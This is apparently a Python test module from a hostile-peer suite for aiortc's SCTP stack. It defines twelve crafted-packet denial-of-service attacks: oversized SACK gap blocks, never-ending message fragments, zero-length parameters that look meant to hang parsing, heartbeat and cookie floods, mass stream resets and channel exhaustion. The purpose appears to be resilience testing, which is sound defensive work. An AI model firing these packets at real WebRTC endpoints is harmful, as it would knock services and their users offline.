"""SCTP packets that cost aiortc's association far more than they cost their sender."""

from __future__ import annotations

import os
import struct

from tests.hostile.attack import PeerAttack
from tests.hostile.peer import HostilePeer, chunk, data_chunk

_INIT, _SACK, _HEARTBEAT, _COOKIE_ECHO, _RECONFIG, _FORWARD_TSN = 1, 3, 4, 10, 130, 192
_UNORDERED, _BEGIN = 4, 2


async def gap_blocks(peer: HostilePeer) -> None:
    """40 SACKs of 280 gap blocks each."""
    gaps = struct.pack("!HH", 2, 0xFFFF) * 280  # each block is expanded into 65,534 TSNs
    for index in range(40):
        head = struct.pack("!LLHH", peer.sctp._last_received_tsn, 1 << 20, 280, 0)
        await peer.send_sctp(chunk(_SACK, head + gaps))
        await peer.pause(index)


async def empty_fragments(peer: HostilePeer) -> None:
    """100 packets of 60 fragments without data, of one message that never ends."""
    tsn = peer.sctp._local_tsn
    for index in range(100):
        chunks = b"".join(
            data_chunk(tsn + 60 * index + n, b"", stream=7, flags=_UNORDERED) for n in range(60)
        )
        await peer.send_sctp(chunks)
        await peer.pause(index)


async def sequence_hole(peer: HostilePeer) -> None:
    """400 packets of 48 fragments behind a TSN that never comes."""
    tsn = peer.sctp._local_tsn + 1
    for index in range(400):
        chunks = b"".join(
            data_chunk(tsn + 48 * index + n, b"x", stream=7, flags=_BEGIN if index + n == 0 else 0)
            for n in range(48)
        )
        await peer.send_sctp(chunks)
        await peer.pause(index)


async def forward_streams(peer: HostilePeer) -> None:
    """FORWARD-TSN of 65,536 streams, then packets of 140 chunks of 8 bytes."""
    tsn, step = peer.sctp._local_tsn, 330  # in a packet: DTLS is read 1,500 bytes at a time
    for first in range(0, 65_536, step):
        named = range(first, min(first + step, 65_536))
        streams = b"".join(struct.pack("!HH", stream, 0) for stream in named)
        await peer.send_sctp(chunk(_FORWARD_TSN, struct.pack("!L", tsn) + streams))
        tsn += 1
        await peer.pause(first // step)
    for index in range(10):
        chunks = b"".join(
            chunk(_FORWARD_TSN, struct.pack("!L", tsn + 140 * index + n)) for n in range(140)
        )
        await peer.send_sctp(chunks)
        await peer.pause(index)


async def endless_init(peer: HostilePeer) -> None:
    """INIT with a parameter of length 0."""
    body = struct.pack("!LLHHL", 1, 1 << 17, 2, 2, 1) + bytes(4)
    await peer.send_sctp(chunk(_INIT, body))


async def endless_heartbeat(peer: HostilePeer) -> None:
    """HEARTBEAT with a parameter of length 0."""
    await peer.send_sctp(chunk(_HEARTBEAT, struct.pack("!HH", 1, 0)))


async def endless_reconfig(peer: HostilePeer) -> None:
    """RE-CONFIG with a parameter of length 0."""
    await peer.send_sctp(chunk(_RECONFIG, struct.pack("!HH", 13, 0)))


async def heartbeats(peer: HostilePeer) -> None:
    """20,000 heartbeats of 1,000 bytes, each of which asks for a reply."""
    beat = chunk(_HEARTBEAT, struct.pack("!HH", 1, 1000) + bytes(996))
    for index in range(20_000):
        await peer.send_sctp(beat)
        await peer.pause(index)


async def cookies(peer: HostilePeer) -> None:
    """10,000 COOKIE-ECHOs with a wrong cookie."""
    echo = chunk(_COOKIE_ECHO, os.urandom(24))
    for index in range(10_000):
        await peer.send_sctp(echo)
        await peer.pause(index)


async def stream_resets(peer: HostilePeer) -> None:
    """3,000 RE-CONFIGs, each of which resets 400 streams."""
    for index in range(3_000):
        parameter = struct.pack("!HHLLL", 13, 16 + 2 * 400, index, 0, peer.sctp._local_tsn)
        streams = b"".join(struct.pack("!H", stream) for stream in range(400))
        await peer.send_sctp(chunk(_RECONFIG, parameter + streams))
        await peer.pause(index)


async def unfinished_message(peer: HostilePeer) -> None:
    """6,000 fragments of 1,100 bytes, in order, of a message that never ends."""
    tsn = peer.sctp._local_tsn
    for index in range(6_000):
        flags = _BEGIN if index == 0 else 0
        await peer.send_sctp(data_chunk(tsn + index, bytes(1100), stream=7, flags=flags))
        await peer.pause(index)


async def channels(peer: HostilePeer) -> None:
    """2,000 data channels opened."""
    tsn = peer.sctp._local_tsn
    opening = struct.pack("!BBHLHH", 3, 0, 0, 0, 1, 0) + b"x"
    for index in range(2_000):
        stream = 10 + 2 * index
        await peer.send_sctp(data_chunk(tsn + index, opening, stream=stream, protocol=50))
        await peer.pause(index)


ATTACKS = (
    PeerAttack("sack-gaps", "40 SACKs of 280 gap blocks", gap_blocks, must_end=True),
    PeerAttack("empty-data", "6,000 empty DATA fragments", empty_fragments, must_end=True),
    PeerAttack("tsn-hole", "19,200 fragments behind a TSN hole", sequence_hole, must_end=True),
    PeerAttack("forward-tsn", "FORWARD-TSN of 65,536 streams", forward_streams, must_end=True),
    PeerAttack("endless-init", "INIT, a parameter of length 0", endless_init),
    PeerAttack(
        "endless-heartbeat", "HEARTBEAT, a parameter of length 0", endless_heartbeat, must_end=True
    ),
    PeerAttack(
        "endless-reconfig", "RE-CONFIG, a parameter of length 0", endless_reconfig, must_end=True
    ),
    PeerAttack("heartbeats", "20,000 heartbeats of 1,000 bytes", heartbeats),
    PeerAttack("cookies", "10,000 COOKIE-ECHOs, wrong cookie", cookies),
    PeerAttack("stream-resets", "3,000 RE-CONFIGs of 400 streams", stream_resets),
    PeerAttack("unfinished-message", "a message of 6.6 MB that never ends", unfinished_message),
    PeerAttack("channels", "2,000 data channels", channels),
)
